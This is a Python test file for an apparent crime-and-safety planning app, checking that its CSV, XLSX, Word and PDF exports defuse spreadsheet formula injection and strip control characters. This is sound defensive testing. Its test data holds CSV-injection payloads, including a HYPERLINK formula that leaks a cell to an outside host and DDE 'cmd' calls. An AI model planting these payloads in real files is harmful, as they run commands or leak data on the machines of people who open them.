"""Exports that cannot be turned against the person who opens them (item 13): every CSV, XLSX and
Word file the product writes goes through saferplan.core.downloads, so a value that a
spreadsheet would run as a formula arrives as text, and a control character never breaks a file."""
from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from saferplan.assessment import partner, police, services
from saferplan.consultation import outputs
from saferplan.consultation.testing import respond
from saferplan.core.downloads import FORMULA_STARTS, clean_text, csv_cell, xlsx_cell
from saferplan.documents.pdf import render_pdf
from saferplan.documents.word import render_docx
from saferplan.partnership.models import RoleKind
from saferplan.partnership.testing import make_member, sign_in_verified
from saferplan.planning import documents as plan_documents
from saferplan.planning.models import Action

from .conftest import PERIOD, melton_slice, word

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://example.invalid/?d="&A1,"On or near Main Street")'
HOSTILE = [LINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def runnable(cell: str) -> bool:
    """Would a spreadsheet run this cell? A plain negative number is a number, not a formula."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value):
    assert csv_cell(value) == "'" + value and xlsx_cell(value) == "'" + value


def test_control_characters_are_dropped_and_other_values_kept():
    assert csv_cell("On or near\x00 Main\x07 Street\x1b") == "On or near Main Street"
    assert csv_cell("\x01=1+1") == "'=1+1"  # a control character does not hide a formula
    assert clean_text("Line one\nline two\ttab") == "Line one\nline two\ttab"
    assert csv_cell(None) == "" and xlsx_cell(None) is None
    assert csv_cell(-12.5) == -12.5 and xlsx_cell(3) == 3  # numbers stay numbers
    assert csv_cell("Violence and sexual offences") == "Violence and sexual offences"


# --- The assessment's CSV downloads and zip ------------------------------------------------------


def _hostile_slice(month: str, folder, every: int = 3) -> None:
    """A real month of Melton records in which some locations and categories were replaced by
    values a spreadsheet would run (the format and the other fields are as found)."""
    path = melton_slice(month, folder, others=5)["path"]
    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    location, category = header.index("Location"), header.index("Crime type")
    for n, row in enumerate(rows[1:]):
        if n % every == 0:
            row[location] = LINK
        if n % 50 == 1:
            row[category] = "@SUM(A1:A9)\x07"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)


@pytest.fixture
def hostile_store(partnership, store, tmp_path):  # noqa: F811 - the store fixture
    folder = tmp_path / "police"
    for month in ("2023-12", "2024-12"):
        _hostile_slice(month, folder)
    fires = tmp_path / "fires.csv"
    with open(melton_slice("2024-12", tmp_path / "again", others=0)["path"], encoding="utf-8", newline="") as handle:
        lsoas = sorted({r["LSOA code"] for r in csv.DictReader(handle)})
    with open(fires, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(["LSOA21CD", "Month", "Incident type", "Incidents"])
        for n, lsoa in enumerate(lsoas):
            writer.writerow([lsoa, "2024-12", "+SUM(1,2) fires", n % 4 + 1])
            writer.writerow([lsoa, "2023-12", "+SUM(1,2) fires", n % 3 + 1])
    with services.writing() as conn:
        police.import_police(conn, [folder])
        partner.import_partner(conn, fires, partner.ColumnMapping(
            area="LSOA21CD", month="Month", measure="Incident type", count="Incidents"), "=cmd|' /C calc'!A0",
            owner=partnership.pk)  # partner data is read by the partnership that imported it
    return partnership


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_assessment_csv_downloads_and_zip_cannot_run(client, hostile_store):
    sign_in_verified(client, make_member(hostile_store, RoleKind.ANALYST))
    kwargs = {"slug": hostile_store.slug, "period": PERIOD}
    archive = client.get(reverse("assessment:tables-zip", kwargs=kwargs))
    assert archive.status_code == 200 and "no-store" in archive["Cache-Control"]
    files = zipfile.ZipFile(io.BytesIO(archive.content))
    everything = []
    for name in files.namelist():
        cells = _cells(files.read(name).decode("utf-8"))
        assert not [c for c in cells if runnable(c)], name
        assert not [c for c in cells if clean_text(c) != c], name
        everything += cells
    # The hostile values are there, as text: nothing was dropped to make the file safe.
    assert "'" + LINK in everything  # a repeat location
    assert "'@SUM(A1:A9)" in everything  # a police category
    assert "'=cmd|' /C calc'!A0" in everything and "'+SUM(1,2) fires" in everything  # partner data
    for key in ("categories", "repeat_locations", "partner"):
        for publish in ({}, {"publish": "1"}):
            one = client.get(reverse("assessment:table-csv", kwargs={**kwargs, "key": key}), publish)
            assert one.status_code == 200 and "no-store" in one["Cache-Control"]
            assert not [c for c in _cells(one.content.decode("utf-8")) if runnable(c)], key


def test_assessment_documents_take_control_characters(client, hostile_store):
    from saferplan.core.periods import Period

    for fmt in ("docx", "pdf"):
        content, _ = services.document(hostile_store, Period.parse(PERIOD), fmt, publish=False)
        assert content[:4] in (b"PK\x03\x04", b"%PDF")
    text = "\n".join(c.text for t in word(services.document(hostile_store, Period.parse(PERIOD), "docx", False)[0]).tables
                     for r in t.rows for c in r.cells)
    assert "@SUM(A1:A9)" in text and "\x07" not in text


# --- The consultation's responses (CSV, XLSX) and report ------------------------------------------


@pytest.fixture
def hostile_survey(survey):
    question = survey.questions.get(code="q5")
    question.text = "=HYPERLINK(\"http://example.invalid\",\"Which three?\")\x0b"
    question.save()
    option = question.options.first()
    option.label = "+Drugs\x08 and alcohol"
    option.save()
    respond(survey, q1="Yes", q4="@SUM(A1:A9) speeding\x1b", q5=[option.label], q5_other="")
    respond(survey, q1="No", q4="-2+3+cmd|' /C calc'!A0")
    respond(survey, q1="No", q4="\t=1+1 tab first")
    return survey


def test_responses_csv_cannot_run(hostile_survey):
    cells = _cells(outputs.responses_csv(hostile_survey))
    assert not [c for c in cells if runnable(c)]
    assert "'@SUM(A1:A9) speeding" in cells and "'-2+3+cmd|' /C calc'!A0" in cells and "'=1+1 tab first" in cells
    assert "'+Drugs and alcohol" in cells  # an option label, its control character gone


def test_responses_xlsx_cannot_run_in_any_sheet(hostile_survey):
    book = openpyxl.load_workbook(io.BytesIO(outputs.responses_xlsx(hostile_survey)))
    assert book.sheetnames == ["Responses", "Questions", "About"]
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not runnable(cell.value), f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    values.append(cell.value)
    assert "'=HYPERLINK(\"http://example.invalid\",\"Which three?\")" in values  # the Questions sheet
    assert any(v.startswith("'+Drugs and alcohol") for v in values)  # an option label, control character gone
    assert "'@SUM(A1:A9) speeding" in values


def test_consultation_report_takes_control_characters(hostile_survey):
    document = outputs.report(hostile_survey)
    assert render_pdf(document)[:4] == b"%PDF"  # the chart of q5 has the label with \x00 in it
    text = "\n".join(c.text for t in word(render_docx(document)).tables for r in t.rows for c in r.cells)
    assert "+Drugs and alcohol" in text


# --- The plan's Word files -------------------------------------------------------------------------


def test_plan_and_eia_word_files_take_control_characters(plan):
    Action.objects.filter(priority__theme__plan=plan).update(title="=Joint patrols\x0c in the town centre")
    for content in (plan_documents.plan_file(plan, "docx"), plan_documents.eia_file(plan, "docx"),
                    plan_documents.plan_file(plan, "pdf")):
        assert content[:4] in (b"PK\x03\x04", b"%PDF")
    text = "\n".join(c.text for t in word(plan_documents.plan_file(plan, "docx")).tables for r in t.rows
                     for c in r.cells)
    assert "=Joint patrols in the town centre" in text
